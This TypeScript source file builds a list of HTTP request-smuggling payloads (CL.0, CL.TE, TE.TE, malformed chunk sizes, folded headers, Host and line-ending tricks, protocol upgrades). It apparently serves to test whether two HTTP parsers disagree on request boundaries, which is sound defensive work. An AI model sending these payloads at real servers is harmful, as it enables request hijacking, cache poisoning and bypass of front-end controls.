/**
 * Known ways to make two parsers of one connection disagree on where a request ends (RFC 9112 §11.2). `inner` is the
 * request that one of the parsers would not see.
 */
export function attacks(target: string): readonly string[] {
  const inner = `GET ${target} HTTP/1.1\r\nHost: t\r\nX-Request-Id: inner\r\n\r\n`;
  const chunked = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
  const get = (fields: string, body = ''): string => `GET ${target} HTTP/1.1\r\nHost: t\r\n${fields}\r\n${body}`;
  const post = (fields: string, body = ''): string => `POST /msearch HTTP/1.1\r\nHost: t\r\n${fields}\r\n${body}`;
  const length = `Content-Length: ${inner.length}\r\n`;
  return [
    // CL.0: a length that one parser takes for no body.
    get(length, inner),
    post(length, inner),
    get('Content-Length: 0\r\n', inner),
    get(`Content-Length : ${inner.length}\r\n`, inner),
    get(`Content-Length\t: ${inner.length}\r\n`, inner),
    get(`Content-Length: +${inner.length}\r\n`, inner),
    get(`Content-Length: 0${inner.length}\r\n`, inner),
    get(`Content-Length:\r\n ${inner.length}\r\n`, inner),
    get(`Content-Length: ${inner.length}, ${inner.length}\r\n`, inner),
    get(`Content-Length: ${inner.length}\r\nContent-Length: 0\r\n`, inner),
    get(`Content-Length: 0\r\nContent-Length: ${inner.length}\r\n`, inner),
    get(`Content-Length: 99999999999999999999\r\n`, inner),
    get(`Content_Length: ${inner.length}\r\n`, inner),
    get(`X: y\rContent-Length: ${inner.length}\r\n`, inner),
    get(`X: y\nContent-Length: ${inner.length}\r\n`, inner),
    get(`Referer: y\nContent-Length: ${inner.length}\r\n`, inner),
    get(`Referer: y\rContent-Length: ${inner.length}\r\n`, inner),
    get(`Referer: y\0\r\nContent-Length: ${inner.length}\r\n`, inner),
    // CL.TE and TE.CL.
    get(`${length}Transfer-Encoding: chunked\r\n`, `0\r\n\r\n${inner}`),
    get(`Transfer-Encoding: chunked\r\n${length}`, `0\r\n\r\n${inner}`),
    post(`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`, chunked),
    get(`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`, chunked),
    // TE.TE: a coding that one parser does not recognise.
    ...[
      'Transfer-Encoding: chunked',
      'Transfer-Encoding: xchunked',
      'Transfer-Encoding : chunked',
      'Transfer-Encoding:\tchunked',
      'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
      'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
      'Transfer-Encoding: chunked, identity',
      'Transfer-Encoding: "chunked"',
      'Transfer-Encoding: CHUNKED',
      'transfer-encoding:chunked',
      'Transfer-Encoding\r\n : chunked',
      'X: y\r\n Transfer-Encoding: chunked',
      ' Transfer-Encoding: chunked',
      'Transfer-Encoding: \x0bchunked',
      'Transfer-Encoding: chunked\r',
      'Transfer_Encoding: chunked',
      'Transfer-Encoding: chun\0ked',
      'Transfer-Encoding: chunk',
    ].map((field) => get(`${field}\r\n`, chunked)),
    // Bodies in chunks with doubtful sizes.
    ...[
      '0;x=y\r\n\r\n',
      '0\n\r\n',
      '00000000000000000\r\n\r\n',
      '0x0\r\n\r\n',
      '-1\r\n\r\n',
      '1\r\nab\r\n0\r\n\r\n',
      '0\r\nX: y\r\n\r\n',
      ' 0\r\n\r\n',
    ].map((body) => get('Transfer-Encoding: chunked\r\n', `${body}${inner}`)),
    // Folded lines.
    get(`X: y\r\n folded: ${inner.length}\r\n`, inner),
    get(`Referer: y\r\n\tContent-Length: ${inner.length}\r\n`, inner),
    `GET ${target} HTTP/1.1\r\n Host: t\r\nHost: t\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost:\r\n t\r\n\r\n${inner}`,
    // Host.
    get('Host: t\r\n', inner),
    get('Host: other\r\n', inner),
    get('host: other\r\n'),
    get('HOST : other\r\n'),
    `GET ${target} HTTP/1.1\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost:\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: a b\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t, u\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t/search\r\n\r\n${inner}`,
    `GET http://other${target} HTTP/1.1\r\nHost: t\r\n\r\n${inner}`,
    // Ends of heads and of lines.
    `GET ${target} HTTP/1.1\nHost: t\n\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\r\n\r\n${inner}`,
    `GET ${target}\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n ${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n\0${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n${inner.slice(0, -2)}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n${inner.slice(0, 10)}`,
    `GET ${target} HTTP/1.1 HTTP/1.1\r\nHost: t\r\n\r\n${inner}`,
    `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n${inner}`.replaceAll('\r\n', '\r\n\r\n'),
    // A body of HEAD, and requests that change the protocol.
    `HEAD ${target} HTTP/1.1\r\nHost: t\r\n${length}\r\n${inner}`,
    get('Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n', inner),
    get('Connection: Upgrade\r\nUpgrade: websocket\r\n', inner),
    get('Connection: keep-alive, Content-Length\r\n', inner),
    get('Connection: close, Host\r\n', inner),
    get(`Expect: 100-continue\r\n${length}`, inner),
    get('Expect: 100-continue\r\n', inner),
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    `CONNECT ${target} HTTP/1.1\r\nHost: t\r\n\r\n${inner}`,
    `GET ${target.replace('hit', '\xd0\xba')} HTTP/1.1\r\nHost: t\r\n\r\n`,
    `GET ${target.replace('hit', '\xd0\xba')} HTTP/1.1\r\nHost: t\r\n\r\n${inner}`,
    `GET ${target.replace('hit', 'hit\tx')} HTTP/1.1\r\nHost: t\r\n\r\n${inner}`,
  ];
}
